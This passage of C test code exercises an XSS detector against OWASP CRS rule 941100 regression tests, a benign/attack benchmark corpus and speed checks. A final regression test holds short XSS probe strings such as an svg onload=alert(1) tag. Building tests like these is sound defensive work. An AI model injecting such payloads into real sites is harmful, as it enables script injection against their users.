static void acc_xml_node(struct scan_acc *a, xmlNode *nd, int depth)
{
    for (; nd && depth < 64; nd = nd->next) {
        if (nd->type == XML_ELEMENT_NODE) {
            for (xmlAttr *at = nd->properties; at; at = at->next) {
                xmlChar *v = xmlNodeGetContent((xmlNode *)at);
                if (v) {
                    acc_value(a, TGT_ARG, (const char *)v, strlen((const char *)v));
                    xmlFree(v);
                }
            }
        } else if (nd->type == XML_TEXT_NODE || nd->type == XML_CDATA_SECTION_NODE) {
            if (nd->content)
                acc_value(a, TGT_ARG, (const char *)nd->content, strlen((const char *)nd->content));
        }
        acc_xml_node(a, nd->children, depth + 1);
    }
}

static void acc_xml(struct scan_acc *a, const char *p, size_t n)
{
    xmlDoc *d = xmlReadMemory(p, (int)n, "body.xml", NULL,
                              XML_PARSE_NONET | XML_PARSE_NOERROR | XML_PARSE_NOWARNING);
    if (!d)
        return;
    acc_xml_node(a, xmlDocGetRootElement(d), 0);
    xmlFreeDoc(d);
}

/* Form fields of a multipart body (file parts are FILES, not ARGS). */
static void acc_multipart(struct scan_acc *a, const char *ctype, const char *p, size_t n)
{
    const char *b = strcasestr(ctype, "boundary=");
    if (!b)
        return;
    b += 9;
    char delim[200];
    size_t bl = strcspn(b, "; \"");
    if (*b == '"') {
        b++;
        bl = strcspn(b, "\"");
    }
    if (bl == 0 || bl + 3 > sizeof(delim))
        return;
    snprintf(delim, sizeof(delim), "--%.*s", (int)bl, b);
    size_t dl = strlen(delim);
    const char *cur = memmem(p, n, delim, dl);
    while (cur) {
        const char *part = cur + dl;
        size_t rest = n - (size_t)(part - p);
        const char *next = memmem(part, rest, delim, dl);
        if (!next)
            break;
        const char *hend = memmem(part, (size_t)(next - part), "\r\n\r\n", 4);
        size_t skip = 4;
        if (!hend) {
            hend = memmem(part, (size_t)(next - part), "\n\n", 2);
            skip = 2;
        }
        if (hend) {
            size_t hl = (size_t)(hend - part);
            char *h = strndup(part, hl);
            const char *body = hend + skip;
            size_t bodyl = (size_t)(next - body);
            while (bodyl && (body[bodyl - 1] == '\n' || body[bodyl - 1] == '\r'))
                bodyl--;
            if (h && !strcasestr(h, "filename=")) {
                const char *nm = strcasestr(h, "name=\"");
                if (nm) {
                    nm += 6;
                    acc_value(a, TGT_ARG, nm, strcspn(nm, "\""));
                }
                acc_value(a, TGT_ARG, body, bodyl);
            }
            free(h);
        }
        cur = next;
    }
}

static void acc_body(struct scan_acc *a, const char *ctype, const char *p, size_t n)
{
    if (!n)
        return;
    if (ctype && strcasestr(ctype, "json"))
        acc_json(a, p, n);
    else if (ctype && strcasestr(ctype, "xml"))
        acc_xml(a, p, n);
    else if (ctype && strcasestr(ctype, "multipart/"))
        acc_multipart(a, ctype, p, n);
    else
        acc_urlencoded(a, p, n, '&');
}

static void acc_uri(struct scan_acc *a, const char *uri)
{
    const char *q = strchr(uri, '?');
    size_t pl = q ? (size_t)(q - uri) : strlen(uri);
    acc_value(a, TGT_PATH, uri, pl);
    if (q)
        acc_urlencoded(a, q + 1, strlen(q + 1), '&');
}

static void acc_header(struct scan_acc *a, const char *name, const char *v)
{
    if (!strcasecmp(name, "Cookie"))
        acc_urlencoded(a, v, strlen(v), ';');
    else if (!strcasecmp(name, "User-Agent"))
        acc_value(a, TGT_UA, v, strlen(v));
    else
        acc_value(a, TGT_HEADER, v, strlen(v));
}

/* ---- CRS regression YAML ----------------------------------------------- */

static yaml_node_t *ymap_get(yaml_document_t *d, yaml_node_t *m, const char *key)
{
    if (!m || m->type != YAML_MAPPING_NODE)
        return NULL;
    for (yaml_node_pair_t *p = m->data.mapping.pairs.start; p < m->data.mapping.pairs.top; p++) {
        yaml_node_t *k = yaml_document_get_node(d, p->key);
        if (k && k->type == YAML_SCALAR_NODE && !strcmp((const char *)k->data.scalar.value, key))
            return yaml_document_get_node(d, p->value);
    }
    return NULL;
}

static const char *yscalar(yaml_node_t *n)
{
    return n && n->type == YAML_SCALAR_NODE ? (const char *)n->data.scalar.value : NULL;
}

/* 1 when the id list holds id, 2 when it holds any id with the prefix. */
static int ylist_has(yaml_document_t *d, yaml_node_t *l, const char *id, const char *prefix)
{
    int found = 0;
    if (!l || l->type != YAML_SEQUENCE_NODE)
        return 0;
    for (yaml_node_item_t *it = l->data.sequence.items.start; it < l->data.sequence.items.top; it++) {
        const char *s = yscalar(yaml_document_get_node(d, *it));
        if (!s)
            continue;
        if (id && !strcmp(s, id))
            found |= 1;
        if (prefix && !strncmp(s, prefix, strlen(prefix)))
            found |= 2;
    }
    return found;
}

struct crs_stats {
    int expect_n, expect_hit;       /* tests expecting 941100 */
    int noexpect_n, noexpect_hit;   /* tests with 941100 in no_expect_ids */
    int any941_n, any941_hit, any941_hit_all; /* 941*.yaml tests expecting any 941 rule */
    int quiet_n, quiet_hit;         /* 941*.yaml tests expecting no 941 rule at all */
    int files;
    char fails[8][240];
    int nfails;
};

static void crs_note_fail(struct crs_stats *st, const char *file, const char *id, const char *why)
{
    if (st->nfails < 8)
        snprintf(st->fails[st->nfails++], sizeof(st->fails[0]), "%.40s #%.10s: %.180s", file, id, why);
}

static void crs_scan_input(yaml_document_t *d, yaml_node_t *in, struct scan_acc *a)
{
    const char *uri = yscalar(ymap_get(d, in, "uri"));
    const char *data = yscalar(ymap_get(d, in, "data"));
    const char *ctype = NULL;
    yaml_node_t *hs = ymap_get(d, in, "headers");
    if (uri)
        acc_uri(a, uri);
    if (hs && hs->type == YAML_MAPPING_NODE) {
        for (yaml_node_pair_t *p = hs->data.mapping.pairs.start; p < hs->data.mapping.pairs.top; p++) {
            const char *k = yscalar(yaml_document_get_node(d, p->key));
            const char *v = yscalar(yaml_document_get_node(d, p->value));
            if (!k || !v)
                continue;
            if (!strcasecmp(k, "Content-Type"))
                ctype = v;
            acc_header(a, k, v);
        }
    }
    if (data)
        acc_body(a, ctype, data, strlen(data));
}

static void crs_file(const char *path, const char *base, bool is941, struct crs_stats *st)
{
    FILE *f = fopen(path, "rb");
    if (!f)
        return;
    yaml_parser_t ps;
    yaml_document_t d;
    yaml_parser_initialize(&ps);
    yaml_parser_set_input_file(&ps, f);
    if (!yaml_parser_load(&ps, &d)) {
        yaml_parser_delete(&ps);
        fclose(f);
        return;
    }
    st->files++;
    yaml_node_t *root = yaml_document_get_root_node(&d);
    yaml_node_t *tests = ymap_get(&d, root, "tests");
    if (tests && tests->type == YAML_SEQUENCE_NODE) {
        for (yaml_node_item_t *it = tests->data.sequence.items.start; it < tests->data.sequence.items.top; it++) {
            yaml_node_t *tn = yaml_document_get_node(&d, *it);
            const char *tid = yscalar(ymap_get(&d, tn, "test_id"));
            yaml_node_t *stages = ymap_get(&d, tn, "stages");
            if (!stages || stages->type != YAML_SEQUENCE_NODE)
                continue;
            for (yaml_node_item_t *si = stages->data.sequence.items.start; si < stages->data.sequence.items.top; si++) {
                yaml_node_t *stg = yaml_document_get_node(&d, *si);
                yaml_node_t *in = ymap_get(&d, stg, "input");
                yaml_node_t *log = ymap_get(&d, ymap_get(&d, stg, "output"), "log");
                int ex = ylist_has(&d, ymap_get(&d, log, "expect_ids"), "941100", "941");
                int nx = ylist_has(&d, ymap_get(&d, log, "no_expect_ids"), "941100", "941");
                if (!in || !(ex || nx))
                    continue;
                struct scan_acc a = {false, false, ""};
                crs_scan_input(&d, in, &a);
                if (ex & 1) {
                    st->expect_n++;
                    if (a.hit_941100)
                        st->expect_hit++;
                    else
                        crs_note_fail(st, base, tid ? tid : "?", "941100 expected, not detected");
                }
                if (nx & 1) {
                    st->noexpect_n++;
                    if (a.hit_941100) {
                        st->noexpect_hit++;
                        crs_note_fail(st, base, tid ? tid : "?", a.what);
                    }
                }
                if (is941 && (ex & 2)) {
                    if (getenv("XSS_TEST_VERBOSE") && !a.hit_941100)
                        printf("  miss %s #%s\n", base, tid ? tid : "?");
                    st->any941_n++;
                    st->any941_hit += a.hit_941100;
                    st->any941_hit_all += a.hit_any;
                } else if (is941 && !ex) {
                    st->quiet_n++;
                    st->quiet_hit += a.hit_941100;
                    if (getenv("XSS_TEST_VERBOSE") && a.hit_941100)
                        printf("  quiet-test hit %s #%s: %s\n", base, tid ? tid : "?", a.what);
                }
            }
        }
    }
    yaml_document_delete(&d);
    yaml_parser_delete(&ps);
    fclose(f);
}

static void crs_dir(const char *dir, struct crs_stats *st, int depth)
{
    DIR *dp = opendir(dir);
    if (!dp || depth > 4) {
        if (dp)
            closedir(dp);
        return;
    }
    struct dirent *e;
    while ((e = readdir(dp)) != NULL) {
        if (e->d_name[0] == '.')
            continue;
        char path[1024];
        snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
        size_t l = strlen(e->d_name);
        if (l > 5 && !strcmp(e->d_name + l - 5, ".yaml"))
            crs_file(path, e->d_name, !strncmp(e->d_name, "941", 3), st);
        else if (e->d_type == DT_DIR || e->d_type == DT_UNKNOWN)
            crs_dir(path, st, depth + 1);
    }
    closedir(dp);
}

TEST(xss_crs_regression_941100)
{
    DIR *probe = opendir(CRS_TESTS);
    if (!probe) {
        printf("  SKIP xss_crs_regression_941100: %s not found\n", CRS_TESTS);
        return;
    }
    closedir(probe);
    struct crs_stats st;
    memset(&st, 0, sizeof(st));
    crs_dir(CRS_TESTS, &st, 0);
    for (int i = 0; i < st.nfails; i++)
        printf("  crs: %s\n", st.fails[i]);
    printf("  crs: %d yaml files; 941100 expected %d/%d detected, no_expect %d/%d quiet\n",
           st.files, st.expect_hit, st.expect_n, st.noexpect_n - st.noexpect_hit, st.noexpect_n);
    printf("  crs: 941*.yaml tests expecting a 941 rule: %d/%d (%.1f%%) on 941100 targets, "
           "%d/%d (%.1f%%) on any header/path/arg\n",
           st.any941_hit, st.any941_n, st.any941_n ? 100.0 * st.any941_hit / st.any941_n : 0.0,
           st.any941_hit_all, st.any941_n,
           st.any941_n ? 100.0 * st.any941_hit_all / st.any941_n : 0.0);
    printf("  crs: 941*.yaml tests expecting no 941 rule: %d/%d flagged on 941100 targets\n",
           st.quiet_hit, st.quiet_n);
    CHECK(st.expect_n >= 5);
    CHECK_INT(st.expect_hit, st.expect_n);
    CHECK_INT(st.noexpect_hit, 0);
    /* Floor under the measured rate, so a regression fails the test. */
    CHECK(st.any941_n > 150);
    CHECK(st.any941_hit * 100 >= st.any941_n * XSS_CRS_941_FLOOR_PCT);
}

/* ---- benchmark corpus --------------------------------------------------- */

struct corpus_stats {
    int benign, benign_fp, benign_fp_any, xss, xss_hit, xss_hit_any, lines;
    char fps[6][240];
    int nfps;
    char misses[6][240];
    int nmisses;
};

static const char *jstr(yajl_val o, const char *key)
{
    const char *path[] = {key, NULL};
    yajl_val v = yajl_tree_get(o, path, yajl_t_string);
    return v ? YAJL_GET_STRING(v) : NULL;
}

static void corpus_line(struct corpus_stats *st, char *line)
{
    yajl_val o = yajl_tree_parse(line, NULL, 0);
    if (!o)
        return;
    st->lines++;
    const char *label = jstr(o, "label"), *cls = jstr(o, "class");
    const char *uri = jstr(o, "uri"), *body = jstr(o, "body");
    const char *hpath[] = {"headers", NULL};
    yajl_val hs = yajl_tree_get(o, hpath, yajl_t_array);
    bool benign = label && !strcmp(label, "benign");
    bool is_xss = label && !strcmp(label, "attack") && cls && !strcmp(cls, "xss");
    if (!benign && !is_xss)
        goto out;
    struct scan_acc a = {false, false, ""};
    const char *ctype = NULL;
    if (uri)
        acc_uri(&a, uri);
    for (size_t i = 0; hs && i < hs->u.array.len; i++) {
        yajl_val h = hs->u.array.values[i];
        if (!YAJL_IS_ARRAY(h) || h->u.array.len != 2 || !YAJL_IS_STRING(h->u.array.values[0]) ||
            !YAJL_IS_STRING(h->u.array.values[1]))
            continue;
        const char *k = YAJL_GET_STRING(h->u.array.values[0]);
        const char *v = YAJL_GET_STRING(h->u.array.values[1]);
        if (!strcasecmp(k, "Content-Type"))
            ctype = v;
        acc_header(&a, k, v);
    }
    if (body)
        acc_body(&a, ctype, body, strlen(body));
    if (benign) {
        st->benign++;
        st->benign_fp_any += a.hit_any;
        if (a.hit_941100) {
            st->benign_fp++;
            if (st->nfps < 6)
                snprintf(st->fps[st->nfps++], sizeof(st->fps[0]), "%s", a.what);
        }
    } else {
        st->xss++;
        st->xss_hit += a.hit_941100;
        st->xss_hit_any += a.hit_any;
        if (!a.hit_any && st->nmisses < 6)
            snprintf(st->misses[st->nmisses++], sizeof(st->misses[0]), "%.200s %.30s", uri ? uri : "",
                     body ? body : "");
    }
out:
    yajl_tree_free(o);
}

TEST(xss_bench_corpus)
{
    FILE *f = fopen(BENCH_CORPUS, "rb");
    if (!f) {
        printf("  SKIP xss_bench_corpus: %s not found\n", BENCH_CORPUS);
        return;
    }
    struct corpus_stats st;
    memset(&st, 0, sizeof(st));
    ZSTD_DCtx *dc = ZSTD_createDCtx();
    size_t inl = ZSTD_DStreamInSize();
    char *in = malloc(inl);
    size_t cap = 1 << 20, used = 0;
    char *out = malloc(cap);
    bool ok = dc && in && out;
    while (ok) {
        size_t got = fread(in, 1, inl, f);
        if (got == 0)
            break;
        ZSTD_inBuffer ib = {in, got, 0};
        while (ib.pos < ib.size) {
            if (cap - used < 65536) {
                char *nb = realloc(out, cap * 2);
                if (!nb) {
                    ok = false;
                    break;
                }
                out = nb;
                cap *= 2;
            }
            ZSTD_outBuffer ob = {out + used, cap - used - 1, 0};
            size_t rc = ZSTD_decompressStream(dc, &ob, &ib);
            if (ZSTD_isError(rc)) {
                ok = false;
                break;
            }
            used += ob.pos;
            /* hand each complete line to the parser, keep the tail */
            char *start = out, *nl;
            while ((nl = memchr(start, '\n', used - (size_t)(start - out))) != NULL) {
                *nl = '\0';
                corpus_line(&st, start);
                start = nl + 1;
            }
            used -= (size_t)(start - out);
            memmove(out, start, used);
        }
    }
    if (ok && used) {
        out[used] = '\0';
        corpus_line(&st, out);
    }
    free(in);
    free(out);
    ZSTD_freeDCtx(dc);
    fclose(f);
    CHECK(ok);
    for (int i = 0; i < st.nfps; i++)
        printf("  corpus FP: %s\n", st.fps[i]);
    for (int i = 0; i < st.nmisses; i++)
        printf("  corpus miss: %s\n", st.misses[i]);
    printf("  corpus: %d lines; benign %d, flagged %d (%d counting every header and the path); "
           "xss attacks %d, detected %d (%.1f%%) on 941100 targets, %d (%.1f%%) on any header/path/arg\n",
           st.lines, st.benign, st.benign_fp, st.benign_fp_any, st.xss, st.xss_hit,
           st.xss ? 100.0 * st.xss_hit / st.xss : 0.0, st.xss_hit_any,
           st.xss ? 100.0 * st.xss_hit_any / st.xss : 0.0);
    CHECK(st.lines == 10000);
    CHECK_INT(st.benign_fp, 0);
    CHECK(st.xss_hit * 100 >= st.xss * XSS_CORPUS_FLOOR_PCT);
}

/* ---- speed -------------------------------------------------------------- */

static double now_ns(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec * 1e9 + (double)ts.tv_nsec;
}

/* Prints the numbers; asserts only a very loose bound since this build runs
 * under sanitizers (release numbers are in docs/internals/xss.md). */
TEST(xss_speed)
{
    static const char *const args[] = {
        "Nice shoes, would buy again!!", "https://shop.example.com/c/x=1", "{\"q\":\"red shoes\",\"n\":10}",
        "O'Reilly \"Learning C\" 2nd ed", "a<b and c>d, x=1; see: notes.",
    };
    struct detect_result r;
    int iters = 200000, hits = 0;
    double t0 = now_ns();
    for (int i = 0; i < iters; i++) {
        const char *s = args[i % 5];
        hits += detect_xss(s, strlen(s), &r);
    }
    double per = (now_ns() - t0) / iters;
    CHECK_INT(hits, 0);

    size_t n = 64 * 1024;
    char *text = malloc(n);
    CHECK(text != NULL);
    if (!text)
        return;
    static const char para[] =
        "The quick brown fox jumps over the lazy dog. Prices from 10 to 20 EUR, "
        "see https://example.com/help for details; \"great value\" said O'Brien. "
        "If a < b and c > d then x = 1.\n";
    for (size_t i = 0; i < n; i++)
        text[i] = para[i % (sizeof(para) - 1)];
    int reps = 200;
    t0 = now_ns();
    for (int i = 0; i < reps; i++)
        hits += detect_xss(text, n, &r);
    double mbs = (double)n * reps / ((now_ns() - t0) / 1e9) / 1e6;
    CHECK_INT(hits, 0);
    free(text);
    printf("  xss speed (this build): %.0f ns per ~30-byte argument, %.0f MB/s on 64 KB text\n", per,
           mbs);
    CHECK(per < 20000);
}

/* Regression: a tag glued to a host name was taken for a generic type
 * ("com<script>" like "List<Script>") and missed (CRS 941101-1, Referer). */
TEST(xss_tag_glued_to_host_text)
{
    struct detect_result r;
    CHECK(detect_xss("www.github.com<script><img><iframe>", 35, &r));
    CHECK(detect_xss("x.example<svg onload=alert(1)>", 30, &r));
    CHECK(!detect_xss("List<Script> items", 18, &r));
    CHECK(!detect_xss("Map<String, Object> m", 21, &r));
}
